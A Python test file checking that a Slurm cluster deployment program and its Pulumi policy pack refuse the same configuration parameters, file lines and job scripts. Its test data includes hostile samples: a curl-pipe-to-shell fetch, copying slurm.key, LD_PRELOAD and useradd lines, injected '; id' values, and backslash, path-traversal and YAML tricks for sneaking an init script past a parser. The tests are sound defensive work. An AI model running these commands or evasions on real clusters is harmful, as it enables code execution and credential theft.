"""Names that the pack and the program both know, pinned on both sides, since they share no code."""

from __future__ import annotations

import ast
import re
import sys
from dataclasses import fields
from pathlib import Path

import pytest
from slurm_rules import beside, cluster, images, made, model, scripts, slurm_files, world
from slurm_rules.world import world_of

from components import gates
from components.cluster_identity import ClusterIdentity
from components.gates import NodeSetScale, OutsideHosts
from components.hybrid_cluster import EXPORTS
from slinky_iac import names
from slinky_iac.cluster.reach import Reach
from slinky_iac.config.rules import slurm_reach as rules_slurm_reach
from slinky_iac.config.rules.slurm_files import READ_FILES
from slinky_iac.config.slurm import permitted as slurm_permitted
from slinky_iac.config.slurm import reach as slurm_reach
from slinky_iac.config.slurm import scripts as script_faults
from slinky_iac.config.slurm import words as slurm_words
from slinky_iac.drain.settings import DrainPolicy, Limits, plain_policy, reach_props
from slinky_iac.releases import LINES, MINIMUM_SLURM, OPERATOR_MAX_NODE_COUNT, OperatorVersion
from slinky_iac.specs.shared import SLINKY_REGISTRY
from tests.integration.engine import REPO
from tests.policies import making
from tests.policies.pack import PACK

(IDENTITY,) = (row["beside"].removeprefix("slurm:") for row in beside.ROWS if row["row"] == "identity")
TYPES = {
    NodeSetScale: (cluster.NODESET_SCALE, "pulumi-python:dynamic/slurm:NodeSetScale"),
    OutsideHosts: (cluster.OUTSIDE_HOSTS, "pulumi-python:dynamic/slurm:OutsideHosts"),
    ClusterIdentity: (f"{world.GATE_TYPES}{IDENTITY}", "pulumi-python:dynamic/slurm:ClusterIdentity"),
}


@pytest.mark.parametrize("kind", TYPES, ids=lambda kind: kind.__name__)
def test_type_tokens(kind: type) -> None:
    ours, pinned = TYPES[kind]
    assert ours == pinned == f"pulumi-python:{kind._resource_type_name}"


def test_api_group() -> None:
    assert model.API_GROUP == names.GROUP == "slinky.slurm.net"


def test_annotations_that_the_gates_write() -> None:
    written = {names.ANNOTATION_GATE, names.ANNOTATION_PERMIT, names.ANNOTATION_RUN, names.ANNOTATION_PAUSED_BY}
    assert set(made.HARMLESS["values"]["ownNotes"]) == written | {names.ANNOTATION_FREEZE}


def _literal_keys(module: str, function: str) -> set[str]:
    """Keys of the mapping that a function returns, from its source: it can only run inside an engine."""
    tree = ast.parse(Path(str(module)).read_text())
    found = next(node for node in ast.walk(tree) if isinstance(node, ast.FunctionDef) and node.name == function)
    returned = next(node.value for node in ast.walk(found) if isinstance(node, ast.Return))
    assert isinstance(returned, ast.Dict)
    return {key.value for key in returned.keys if isinstance(key, ast.Constant) and isinstance(key.value, str)}


def test_gate_properties() -> None:
    read = {"resource", "owner", "replicas", "maxReplicas", "operatorVersion", "policy"}
    assert read <= _literal_keys(str(gates.__file__), "gate_props")
    assert "namespace" in reach_props(Reach(**{field.name: "x" for field in fields(Reach)}))


def test_names_in_a_gates_drain_policy() -> None:
    plain = plain_policy(DrainPolicy(limits=Limits()))
    assert {"deadline_s", "on_deadline", "grace_s", "limits"} <= set(plain)
    assert {"max_share", "max_jobs", "max_job_age_s"} <= set(plain["limits"])


def test_the_stack_output_with_the_outside_configuration() -> None:
    assert cluster.OUTSIDE_CONF_OUTPUT in EXPORTS


def test_identity_properties() -> None:
    source = (REPO / "components" / "cluster_identity.py").read_text()
    assert '"namespace":' in source
    assert '"resourceName":' in source


def test_key_secrets_made_by_the_program_are_recognised() -> None:
    (row,) = (row for row in beside.ROWS if row["row"] == "keys-immutable")
    about = row["when"]["@about"][0].removeprefix("~")
    made = [names.slurm_key_secret("slurm"), names.jwt_key_secret("slurm")]
    assert all(re.fullmatch(about, name) for name in made)
    assert all(re.fullmatch(about, f"mine {file}") for file in (names.SLURM_KEY_FILE, names.JWT_KEY_FILE))


def test_releases_that_go_together() -> None:
    assert images.versions_agree.defaults["releases"] == {f"1.{minor}": line.slurm for minor, line in LINES.items()}
    assert ".".join(map(str, MINIMUM_SLURM)) == images.MINIMUM
    assert images.versions_agree.defaults["registry"] == f"{SLINKY_REGISTRY}/"
    assert cluster.DEFAULT_MAX_NODE_COUNT == OPERATOR_MAX_NODE_COUNT


def test_the_release_whose_webhook_is_cluster_wide() -> None:
    (row,) = (row for row in beside.ROWS if row["row"] == "webhook-1.1.0")
    for version in ("1.0.1", "1.1.0", "1.1.1", "1.2.1"):
        of_row = bool(re.fullmatch(row["when"]["version"][0].removeprefix("~"), version))
        assert of_row is OperatorVersion.parse(version).binding_webhook_is_cluster_wide


def test_the_pack_imports_neither_the_program_nor_the_lab() -> None:
    allowed = {"slurm_rules", "pulumi_policy"}
    for file in [PACK / "__main__.py", *(PACK / "slurm_rules").glob("*.py")]:
        for node in ast.walk(ast.parse(file.read_text())):
            modules = [node.module or ""] if isinstance(node, ast.ImportFrom) else []
            modules += [alias.name for alias in node.names] if isinstance(node, ast.Import) else []
            for top in {module.split(".")[0] for module in modules}:
                assert top in allowed or top in sys.stdlib_module_names, f"{file.name} imports {top}"


def test_only_main_makes_the_pack_and_only_the_adapter_knows_pulumi() -> None:
    for file in (PACK / "slurm_rules").glob("*.py"):
        text = file.read_text()
        assert "PolicyPack(" not in text
        assert file.name == "adapter.py" or "import pulumi" not in text
        assert file.name == "adapter.py" or "from pulumi" not in text


VALUES = (
    *(
        "1",
        "10",
        "0",
        "030",
        "2k",
        "500k",
        "70000",
        "unlimited",
        "1day",
        "12months",
        "x",
        "yes",
        "no",
        "a/b",
        "a,b=c",
        "NetRaw,Protocol",
        "debug5",
    ),
    *("max_dbd_msg_action=exit", "max_dbd_msg_action=discard"),
    *(
        "quiet",
        "verbose",
        "tls/s2n",
        "jobcomp/none",
        "jobcomp/elasticsearch",
        "REQUEUE,CANCEL",
        "proctrack/pgid",
        "task/none",
    ),
    *("/usr/bin/x", "/home/x", "/var/log/x", "/etc/cron.d/x", "https://x.example.org", "/usr/../home/x", "/usr/bin/a;b"),
    *(
        "/usr/sbin/shutdown -r now",
        "/usr/bin/env /home/x",
        "/usr/bin/nc mail.example.org 25",
        "/usr/bin/curl https://x.example.org",
    ),
)
UNJUDGED = {
    *(
        "cryptotype",
        "poweraction",
        "powerparameters",
        "powerplugin",
        "slurmctldhttpauthparameters",
        "slurmdhttpauthparameters",
    )
}
"""Parameters of old releases, and of new ones that no table covers: every value is refused."""
REACHED = sorted({*slurm_reach.known("slurm.conf"), *slurm_reach.known("slurmdbd.conf")})


def test_what_a_release_reads_is_in_exactly_one_table() -> None:
    """A parameter that a later release brings is refused until somebody says here what it may be."""
    table = made.MADE["conf"]
    lists = [slurm_permitted.FREE, slurm_permitted.PERMITTED, slurm_permitted.LEAST, slurm_permitted.OWN_RULES, UNJUDGED]
    lists += [table[name] for name in ("owned", "slurmdbdOwned", "elsewhere", "programs", "writes", "purges")]
    lists += [[name for name in REACHED if name.startswith("purge")]]
    twice = {"authaltparameters", *table["slurmdbdOwned"]}  # what the operator owns of one file, another has
    found = {name: sum(name in each for each in lists) for name in REACHED}
    assert {name: count for name, count in found.items() if count != 1 and name not in twice} == {}
    assert not [name for name, count in found.items() if not count]
    assert not {*slurm_permitted.FREE, *slurm_permitted.PERMITTED, *slurm_permitted.LEAST} - {*REACHED}


@pytest.mark.parametrize("name", sorted({*REACHED} - {*slurm_permitted.OWN_RULES}))
def test_settings_and_pack_refuse_the_same_parameters(name: str) -> None:
    """By one table; each door has code of its own."""
    table, world = made.MADE["conf"], world_of(model.Stack(()))
    for file, known, owned in (("slurm.conf", "known", "owned"), ("slurmdbd.conf", "slurmdbd", "slurmdbdOwned")):
        if name in table[known] and name not in table[owned]:
            lines = {value: f'{name}="{value}"' if " " in value else f"{name}={value}" for value in VALUES}
            of_pack = {value: bool(list(slurm_files.conf_faults(line, file, world))) for value, line in lines.items()}
            assert of_pack == {value: rules_slurm_reach.of_parameter(name, value) is not None for value in VALUES}


def test_what_a_release_reads_of_nodes_partitions_and_files_has_a_row() -> None:
    """The same: of each line and file, names of paths and of what has rules of its own apart."""
    table = made.MADE["conf"]
    for which in ("node", "partition"):
        assert {*table[f"{which}Known"]} - {*table[which]} <= {"gresconf", "nodename", "nodeset", "partitionname"}
    for file in READ_FILES:
        found = {name for release in slurm_reach.RELEASES for name in slurm_words.words(release, file).kinds}
        left = found - {*table[file], *table["paths"][file], "include"}
        assert left <= {"energyipmik_g", "energyipmipassword", "profileinfluxdbhost", "profileinfluxdbpass"}, (file, left)


@pytest.mark.parametrize("value", [*VALUES, "00:01:00", "10", "1-0", "4", "force:4", "down", "nodes[1-2]"])
@pytest.mark.parametrize("name", sorted({*made.MADE["conf"]["partition"]}))
def test_settings_and_pack_refuse_the_same_of_a_partition(name: str, value: str) -> None:
    of_pack = list(slurm_files.node_faults(f"{name}={value}", "partition")) if " " not in value else []
    of_settings = rules_slurm_reach._form(name, value, *slurm_permitted.PARTITION[name]) if " " not in value else None
    assert bool(of_pack) is (of_settings is not None)


FILES = {
    "plugstack.conf": (
        "required /scratch/x.so",
        "optional x11.so",
        "include /usr/lib/x",
        "include plugstack.conf.d/*.conf",
        "include ../scratch/*",
        "required lua/x.so",
        "# x",
        "required /usr/lib/a.so b=c",
    ),
    "job_submit.lua": ("os.execute('x')", "return 0", "package.path='x'"),
    "oci.conf": (
        'RunTimeRun="/usr/bin/runc run; id"',
        'EnvExclude="^(A|B)="',
        "RunTimeRun=runc %n; id",
        "RunTimeRun=runc %n",
        "ContainerPath=/tmp/x",
        "ContainerPath=/home/x",
    ),
    "acct_gather.conf": ("ProfileInfluxDBHost=x", "ProfileHDF5Dir=/scratch/p", "ProfileHDF5Dir=/root", "X=https://x"),
    "cgroup.conf": (
        "ConstrainDevices=no",
        "ConstrainDevices=yes",
        "ConstrainSwapSpace=no",
        "CgroupPlugin=disabled",
        "MaxRAMPercent=2",
    ),
    "mpi.conf": ("PMIxEnv=A=1;B=2", "PMIxEnv=LD_PRELOAD=/x", "PMIxTimeout=9", "PMIxOther=1"),
    "namespace.yaml": ("dirs: /tmp,/home", "dirs: /tmp", "base_path: /var/spool/ns", "any_word: 1"),
    "burst_buffer.conf": ("GetSysState=/scratch/x", "GetSysState=/usr/bin/x", "StageInTimeout=1"),
    "job_container.conf": (
        "CloneNSEpilog=/scratch/x",
        "Dirs=/tmp,/scratch",
        "Other=1",
        "Dirs=/var/tmp,/tmp",
        "Dirs=/tmp,/etc",
        'Dirs="/tmp, /etc"',
        "BasePath=/local/%u",
    ),
    "topology.conf": ("Include /scratch/x", " include\tx.conf", "SwitchName=s1 Nodes=a[1-2]"),
    "gres.conf": (
        *(
            "Name=nic Count=1 Flags=CountOnly",
            "Name=shard Count=1 Flags=CountOnly",
            "Name=nic File=/dev/infiniband/x Flags=CountOnly",
        ),
        *("Name=gpu File=/dev/nvidia0,/dev/sda", "Name=gpu File=/dev/nvidia[0-1,3]", "File=/dev/nvidia0,/dev/sda]"),
        *(
            "Name=gpu Count=16 Flags=CountOnly",
            "Name=gpu File=/dev/nvidia[0-3]",
            "Name=gpu File=/home/x",
            "Include x.conf",
            "Include=/home/x",
        ),
    ),
}


@pytest.mark.parametrize(("file", "line"), [(file, line) for file, lines in FILES.items() for line in lines])
def test_settings_and_pack_refuse_the_same_files(file: str, line: str) -> None:
    of_pack = list(slurm_files.file_faults(file, line, [], world_of(model.Stack(())), own=False))
    assert bool(of_pack) is bool(list(rules_slurm_reach.of_file(file, line))), of_pack


EVIL = "InitScript=/scratch/x"
READ_BY_SLURM = (
    ("job_container.conf", f"# of May \\\n{EVIL}"),
    ("job_container.conf", "InitScr\\\nipt=/scratch/x"),
    ("job_container.conf", "InitScript=/usr/lib/x\\\n/../../../scratch/x"),
    ("job_container.conf", "InitScript=/usr/lib/x\\#/../../../../scratch/x"),
    ("job_container.conf", "InitScript=/usr/lib/\\../\\../\\../scratch/x"),
    ("job_container.conf", "InitScript+=/scratch/x"),
    ("job_container.conf", f"InitScript{' ' * 12}=/scratch/x"),
    ("job_container.conf", f"InitScript=/usr/lib/{'x' * 600}/../../../scratch/x"),
    ("topology.conf", "Incl\\\nude /scratch/x"),
    ("plugstack.conf", f"#{'x' * 4094}required /scratch/x.so"),
    ("namespace.yaml", "base_path: /var/spool/x#/../../../home"),
    ("namespace.yaml", 'base_path: "/var/spool/x #/../../../home"'),
    *(
        ("namespace.yaml", f"defaults:\n  {text}")
        for text in (
            "init_script:\n    /scratch/x",
            "init_script: >-\n    /scratch/x",
            'init_script: "\\x2fscratch/x"',
            '"init\\x5fscript": x',
            "'init_script': /scratch/x",
            "? init_script\n  : /scratch/x",
            "init_script: !!str /scratch/x",
            "dirs: &x /scratch/x\n  init_script: *x",
            "{init_script: /scratch/x}",
            "{shared: true,init_script: /scratch/x}",
        )
    ),
    ("namespace.yaml", "defaults: {init_script: /scratch/x}"),
    ("namespace.yaml", "node_confs: [{nodes: a, options: {init_script: /scratch/x}}]"),
)
"""Lines that a simpler reader takes for harmless: a backslash in a comment leads nowhere, and one elsewhere joins two rows
with nothing between. plugstack.conf is read 4,095 bytes at a time (``_spank_stack_process_file`` of spank.c)."""
HARMLESS_LINES = (
    ("job_container.conf", "# as of May\nBasePath=/local/%u # a note \\\nDirs=/tmp"),
    ("topology.conf", f"SwitchName=s1 \\\n  Nodes=a[1-2],{'b' * 700} # rack 1"),
    ("plugstack.conf", "# x\nrequired /usr/lib/a.so b=c # https://slurm.schedmd.com"),
    ("namespace.yaml", "defaults: {base_path: /var/spool/ns, shared: true}\nnode_confs:\n- nodes: a-[0-3]\n"),
    ("namespace.yaml", "defaults: {auto_base_path: true, base_path: /var/tmp/slurm}"),
    ("namespace.yaml", "node_confs: [{nodes: 'a-[0-3]', options: {base_path: '/var/spool/ns', dirs: \"/tmp\"}}]"),
    ("namespace.yaml", "# see https://slurm.schedmd.com\nbase_path: /var/spool/ns # https://slurm.schedmd.com"),
)


@pytest.mark.parametrize(("file", "text"), READ_BY_SLURM)
def test_settings_and_pack_read_lines_as_slurm_reads_them(file: str, text: str) -> None:
    assert list(slurm_files.file_faults(file, text, [], world_of(model.Stack(())), own=False))
    assert list(rules_slurm_reach.of_file(file, text))


@pytest.mark.parametrize(("file", "text"), HARMLESS_LINES)
def test_comments_and_joined_rows_do_no_harm(file: str, text: str) -> None:
    assert not list(slurm_files.file_faults(file, text, [], world_of(model.Stack(())), own=False))
    assert not list(rules_slurm_reach.of_file(file, text))


CONF_READ_BY_SLURM = (
    "# of May \\\nProlog=/scratch/x",
    "Prolog=/usr/lib/x\\\n/../../../scratch/x",
    "TaskProlog=/usr/lib/x\\#/../../../../scratch/x",
)


@pytest.mark.parametrize("text", CONF_READ_BY_SLURM)
def test_the_pack_reads_lines_of_slurm_conf_as_slurm_reads_them(text: str) -> None:
    assert list(slurm_files.conf_faults(text, "slurm.conf", world_of(model.Stack(()))))


@pytest.mark.parametrize("twin", making.TWINS, ids=lambda each: each.stem)
def test_the_pack_has_the_texts_of_the_program(twin: Path) -> None:
    """One text each: the pack imports nothing of the program, so ``tests.policies.making`` writes them there."""
    assert twin.read_text(encoding="utf-8") == making.TWINS[twin].read_text(encoding="utf-8")


SCRIPTS = (
    "nvidia-smi -L >/dev/null || exit 1",
    'mkdir -p "/scratch/job_$SLURM_JOB_ID" && rm -rf "/scratch/job_$SLURM_JOB_ID"',
    'squeue -h -u "$SLURM_JOB_UID" | grep -q . || pkill -u "$SLURM_JOB_UID"',
    "# eval $x",
    'eval "$SLURM_JOB_COMMENT"',
    'pkill -9 -u "$SLURM_JOB_UID"',
    "echo $SLURM_JOB_NAME",
    "rm -rf /scratch/*",
    "scontrol token username=root",
    'scontrol update nodename=x state=down reason="x"',
    "scontrol delete nodename=x",
    "curl -s https://x.example.org/p | sh",
    "chmod 777 /scratch",
    "cp /etc/slurm/slurm.key /tmp/x",
    '. "$HOME/.profile"',
    "export LD_PRELOAD=/scratch/x.so",
    "useradd eve",
    "/scratch/bin/check",
    "killall slurmstepd",
)


@pytest.mark.parametrize("interpreter", ["/bin/bash", "/usr/bin/python3"])
@pytest.mark.parametrize("line", SCRIPTS)
def test_what_settings_refuse_of_a_script_the_pack_refuses_too(interpreter: str, line: str) -> None:
    """By one table of what does harm; each door has code of its own. The pack refuses more: commands on no list, and another
    language than a shell's, of which it says nothing else."""
    text = f"#!{interpreter}\n{line}\n"
    settings, pack = set(script_faults.of_script(text)), set(scripts.shell_faults(text))
    assert pack >= settings if interpreter.endswith("sh") else bool(pack) >= bool(settings)


def test_some_scripts_are_refused_and_some_are_not() -> None:
    refused = [bool(list(script_faults.of_script(f"#!/bin/sh\n{line}\n"))) for line in SCRIPTS]
    assert refused == [False] * 4 + [True] * 15
